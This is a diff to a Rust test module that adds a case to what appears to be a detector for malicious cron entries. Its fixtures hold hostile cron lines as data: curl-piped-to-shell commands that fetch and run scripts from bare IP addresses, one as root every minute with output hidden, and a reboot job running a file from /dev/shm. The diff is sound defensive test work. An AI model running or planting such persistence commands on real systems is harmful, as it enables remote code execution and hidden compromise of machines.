@@ -75,6 +75,12 @@ mod tests {
             b"*/5 * * * * curl -fsSL http://198.51.100.7/u.sh | sh\n",
             &["fetches and runs http://198.51.100.7/u.sh from a bare address"],
         );
+        check(
+            &DETECTOR,
+            "etc/cron.d/backup",
+            b"* * * * * root curl -fsSL http://203.0.113.7/b.sh | bash >/dev/null 2>&1\n",
+            &["fetches and runs http://203.0.113.7/b.sh from a bare address"],
+        );
         check(&DETECTOR, "etc/cron.d/x", b"@reboot root /dev/shm/.k\n", &["runs /dev/shm/.k from a temporary folder"]);
     }
 
